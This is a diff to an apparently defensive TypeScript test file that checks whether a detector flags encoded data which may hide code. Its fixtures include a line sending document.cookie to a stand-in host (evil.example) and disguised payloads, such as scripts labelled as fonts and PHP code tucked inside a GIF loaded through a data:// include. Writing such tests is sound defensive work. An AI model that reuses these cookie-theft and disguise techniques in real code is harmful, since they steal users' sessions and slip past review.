@@ -14,6 +14,11 @@ function bytes(count: number, start = ''): Buffer {
 const PNG = bytes(1800, '89504e470d0a1a0a0000000d49484452').toString('base64');
 const CODE = 'fetch("https://evil.example/?" + document.cookie); ';
 
+const LOADED = Buffer.concat([Buffer.from('run();/*'), bytes(1600), Buffer.from('*/')]).toString('base64');
+const GIF_OF_CODE = Buffer.concat([bytes(900, '474946383961'), Buffer.from('<?php run(); ?>'), bytes(900)]).toString(
+  'base64',
+);
+
 const read = (line: string, file = '', otherFile = '') =>
   withoutData(line, { uses: () => usesOf([line, file]), usesElsewhere: usesOf([otherFile]) });
 
@@ -54,6 +59,11 @@ describe('what may be code is told as not read', () => {
     'text written as base64 twice': `const s = "${Buffer.from(Buffer.from(CODE.repeat(40)).toString('base64')).toString('base64')}";`,
     'text written as hexadecimal digits': `const s = "${Buffer.from(CODE.repeat(40)).toString('hex')}";`,
     'a script in an address': `<script src="data:text/javascript;base64,${Buffer.from(CODE.repeat(40)).toString('base64')}">`,
+    'a script that calls itself a font': `<script src="data:font/woff2;base64,${LOADED}"></script>`,
+    'the same over two lines': ` src="data:font/woff2;base64,${LOADED}"></script>`,
+    'a module that is random but for its code': `import x from "data:text/javascript;base64,${LOADED}";`,
+    'a module that is called a font': `import "data:font/woff2;base64,${LOADED}";`,
+    'a picture that PHP includes': `include 'data://image/gif;base64,${GIF_OF_CODE}';`,
     'a page in an address': `open("data:text/html;base64,${Buffer.from(`<script>${CODE.repeat(40)}</script>`).toString('base64')}")`,
     'a drawing with a script': `url("data:image/svg+xml;base64,${Buffer.from(`<svg><script>${CODE.repeat(40)}</script></svg>`).toString('base64')}")`,
     'code behind the beginning of a picture': `const s = "${Buffer.concat([bytes(300, '89504e470d0a1a0a'), Buffer.from(CODE.repeat(40))]).toString('base64')}";`,
